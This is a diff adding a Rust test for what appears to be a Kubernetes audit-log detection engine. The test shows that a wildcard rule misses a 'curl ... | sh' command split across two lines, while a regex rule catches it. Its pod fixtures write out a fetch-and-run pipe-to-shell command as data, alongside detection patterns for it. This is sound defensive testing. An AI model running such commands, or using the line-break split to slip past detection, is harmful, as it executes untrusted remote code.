@@ -594,3 +594,35 @@ fn chosen_values_cannot_make_two_keys_one() {
         1
     );
 }
+
+/// As README says: a wildcard inside a value stops at a line break (the
+/// engine's reading), and the `|re` form with `(?s)` that README gives
+/// instead matches the command split over two lines.
+#[test]
+fn a_wildcard_stops_at_a_line_break_and_the_documented_regex_does_not() {
+    let wildcard = rule(
+        "pipe-to-shell",
+        "    requestObject.spec.containers.args|contains: 'curl *| sh'\n",
+    );
+    let regex = rule(
+        "pipe-to-shell-re",
+        "    requestObject.spec.containers.args|re: '(?is)curl.*\\| sh'\n",
+    );
+    let pod = |arg: &str| {
+        audit(
+            json!({"verb": "create", "objectRef": {"resource": "pods", "namespace": "default",
+            "name": "p", "apiVersion": "v1"},
+            "requestObject": {"spec": {"containers": [{"name": "c", "args": ["-c", arg]}]}}}),
+        )
+        .to_string()
+    };
+    let one_line = pod("curl http://x/a | sh");
+    let two_lines = pod("curl http://x/a\n| sh");
+    let w = loaded(&[("w.yml", &wildcard)]);
+    assert!(engine_matches(&w, "pipe-to-shell", &one_line));
+    assert!(!engine_matches(&w, "pipe-to-shell", &two_lines));
+    let r = loaded(&[("r.yml", &regex)]);
+    assert!(engine_matches(&r, "pipe-to-shell-re", &one_line));
+    assert!(engine_matches(&r, "pipe-to-shell-re", &two_lines));
+    assert_eq!(pipeline_alerts(r, true, "pipe-to-shell-re", &two_lines), 1);
+}
